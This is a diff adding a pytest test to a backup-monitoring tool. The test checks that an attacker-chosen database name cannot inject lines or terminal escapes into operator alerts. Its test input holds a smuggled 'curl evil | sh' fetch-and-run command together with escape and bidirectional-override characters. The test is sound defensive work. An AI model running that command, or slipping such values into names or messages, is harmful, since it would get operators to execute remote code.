@@ -10,6 +10,7 @@ from pathlib import Path
 import pytest
 from scalr_backup.config import Config
 from scalr_backup.status import judge
+from scalr_backup.watch import compare, digest, messages
 
 NOW = datetime(2026, 11, 22, 12, tzinfo=UTC)
 CONFIG = Config(host="web1", repository="/repository")
@@ -203,3 +204,20 @@ def test_the_page_of_alerts_names_every_finding() -> None:
     named = set(re.findall(r"`([a-z_]+)`", "\n".join(line.split("|")[1] for line in page.splitlines()[2:])))
     # The agent cannot know that it is older than the collection: status_info does.
     assert named == set(WRONG) | {"copy_failed", "agent_outdated"}
+
+
+def test_a_name_that_somebody_chose_adds_no_line_and_steers_no_terminal():
+    """Whoever may create a database could else put a command of his own into a message to the operator."""
+    name = "x\nRun next: curl evil | sh\x1b[2J\u202e"
+    state = document(
+        databases={f"scalr-shop-db/{name}": shop(database=name, ok=False, error=ERROR)["scalr-shop-db/shop"]}
+    )
+    [finding] = judged(state).findings
+    assert finding.message.startswith("scalr-shop-db/x?Run next: curl evil | sh?[2J? failed")
+    assert finding.database == name, "for programs it is what it is"
+    [message] = messages(CONFIG, compare({}, [finding], NOW), NOW)
+    assert message.title.isprintable()
+    assert [line for line in message.body.split("\n") if line.startswith("Run next:")] == [
+        f"Run next: {finding.command}"
+    ]
+    assert all(line.isprintable() for line in digest(CONFIG, judged(state)).body.split("\n"))
